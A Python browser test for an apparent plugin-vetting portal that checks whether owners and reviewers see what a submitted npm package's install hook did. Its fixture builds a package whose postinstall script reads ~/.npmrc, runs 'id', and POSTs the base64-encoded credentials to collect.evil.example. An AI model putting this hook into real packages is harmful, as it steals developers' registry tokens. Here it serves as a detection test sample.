"""What a plugin did when it ran, as its owner and a reviewer see it: on a phone and a desk, by day and in the dark."""

import pytest
from axe_playwright_python.sync_playwright import Axe

from governance.roles import Role
from plugins.models import PluginVersion, VettingRun
from plugins.services import execute_run
from tests.browser.conftest import PHONE
from tests.factories import OwnerTeamFactory, UserFactory
from tests.support.packages import npm_package

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

STEAL = b"""
const t = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');
require('child_process').execSync('id');
const body = Buffer.from(t).toString('base64');
const to = {host: 'collect.evil.example', method: 'POST', path: '/drop?u=1'};
require('https').request(to).on('error', () => {}).end(body);
"""
DESK = {"width": 1280, "height": 900}


@pytest.fixture
def package(tmp_path):
    path = tmp_path / "acme-1.0.0.tgz"
    path.write_bytes(npm_package(files={"setup.js": STEAL}, scripts={"postinstall": "node setup.js"}))
    return path


def looked_at(page, part):
    """The text of a part of the page, by its id; the page fits the screen and has nothing axe objects to."""
    assert not page.evaluate("document.documentElement.scrollWidth > document.documentElement.clientWidth")
    assert Axe().run(page).response["violations"] == []
    return page.locator(part).inner_text().replace("\u200b", "")


@pytest.mark.parametrize(("viewport", "scheme"), [(PHONE, "dark"), (DESK, "light")], ids=["phone, dark", "desk, light"])
def test_owner_and_reviewer_read_what_the_install_hook_did(open_page, policy, package, viewport, scheme):
    owner = OwnerTeamFactory(members=[UserFactory(username="ada")]).members.get()
    page = open_page(owner, viewport=viewport, color_scheme=scheme)
    page.goto("/portal/submit/")
    assert "Home Assistant" in looked_at(page, "section:has(#taken)")
    page.get_by_label("Package file").set_input_files(package)
    page.get_by_role("button", name="Submit").click()
    page.get_by_text("checks done").wait_for()
    page.goto("about:blank")  # else its own refresh at the end of the run comes between
    execute_run(run_id=VettingRun.objects.get().pk)

    version = PluginVersion.objects.get()
    page.goto(version.get_absolute_url())
    for_owner = looked_at(page, "section:has(> header > #sandbox)")
    admin = open_page(UserFactory(role=Role.LEAD_REVIEWER), viewport=viewport, color_scheme=scheme)
    admin.goto(f"/admin/plugins/pluginversion/{version.pk}/change/#sandbox")
    for_reviewer = looked_at(admin, "section#sandbox")
    for shown in (for_owner, for_reviewer):
        assert "~/.npmrc to collect.evil.example over http (base64)" in shown
        assert "POST https://collect.evil.example/drop?u=1" in shown
